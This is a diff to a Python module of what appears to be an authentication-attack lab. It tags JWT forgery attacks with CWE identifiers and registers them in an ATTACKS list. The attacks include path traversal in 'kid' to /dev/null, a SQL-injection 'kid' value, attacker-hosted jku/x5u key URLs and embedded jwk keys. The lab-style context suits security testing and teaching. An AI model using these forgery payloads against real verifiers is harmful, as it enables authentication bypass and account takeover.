@@ -10,12 +10,13 @@ from cryptography.hazmat.primitives.hashes import SHA256
 from cryptography.hazmat.primitives.serialization import Encoding
 from cryptography.x509.oid import NameOID
 
-from authlab.attacks.forging import Scene
+from authlab.attacks.forging import Scene, forgery
 from authlab.jose import Key, generate_key
 
-__all__ = ["jku", "jwk", "kid_path", "kid_sql", "x5u"]
+__all__ = ["ATTACKS"]
 
 
+@forgery("Point kid at a file", "nothing", "kid_path", "CWE-22")
 def kid_path(scene: Scene) -> Iterator[str]:
     """Have the verifier open an empty file as the key: the secret is then no byte at all."""
     for kid in ("../null", "../../../../dev/null"):
@@ -23,6 +24,7 @@ def kid_path(scene: Scene) -> Iterator[str]:
         yield scene.write({"alg": "HS256", "kid": kid}, b"")
 
 
+@forgery("Put SQL into kid", "nothing", "kid_sql", "CWE-89")
 def kid_sql(scene: Scene) -> Iterator[str]:
     """Have the database answer with a secret of Mallory's."""
     kid = "' UNION SELECT 'mallory"
@@ -30,6 +32,7 @@ def kid_sql(scene: Scene) -> Iterator[str]:
     yield scene.write({"alg": "HS256", "kid": kid}, b"mallory")
 
 
+@forgery("Point jku at her keys", "a web host", "jku", "CWE-918", "CWE-347")
 def jku(scene: Scene) -> Iterator[str]:
     """Name an address of her own for the set of keys."""
     key = generate_key("ES256", kid="mallory")
@@ -38,6 +41,7 @@ def jku(scene: Scene) -> Iterator[str]:
     yield scene.write({"alg": "ES256", "kid": "mallory", "jku": url}, key)
 
 
+@forgery("Point x5u at her certificate", "a web host", "x5u", "CWE-918", "CWE-347")
 def x5u(scene: Scene) -> Iterator[str]:
     """Name an address of her own for the certificate."""
     key = generate_key("ES256", kid="mallory")
@@ -46,6 +50,7 @@ def x5u(scene: Scene) -> Iterator[str]:
     yield scene.write({"alg": "ES256", "kid": "mallory", "x5u": url}, key)
 
 
+@forgery("Bring her own key in jwk", "nothing", "jwk", "CWE-347")
 def jwk(scene: Scene) -> Iterator[str]:
     """Put her own key into the header: a public half, a shared secret, a certificate in x5c."""
     for alg in ("ES256", "HS256"):
@@ -70,3 +75,6 @@ def _certify(key: Key, now: float, encoding: Encoding = Encoding.PEM) -> bytes:
         .sign(key.material, SHA256())
     )
     return certificate.public_bytes(encoding)
+
+
+ATTACKS = [kid_path, kid_sql, jku, x5u, jwk]
